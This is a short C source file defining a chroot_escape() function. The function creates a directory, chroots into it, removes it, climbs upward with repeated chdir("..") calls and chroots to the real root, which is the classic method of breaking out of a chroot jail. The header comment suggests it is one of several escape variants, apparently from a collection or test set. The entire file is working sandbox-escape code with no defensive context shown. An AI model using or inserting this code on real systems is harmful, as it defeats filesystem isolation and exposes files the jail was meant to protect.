/* Right: a directory of its own, removed while it is our root */
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

int
chroot_escape(void)
{
	int i;

	if (mkdir("tmp/x", 0700) == -1 || chroot("tmp/x") == -1 ||
	    rmdir("tmp/x") == -1)
		return -1;
	for (i = 0; i < 5000; i++)
		if (chdir("..") == -1)
			return -1;
	return chroot(".");
}
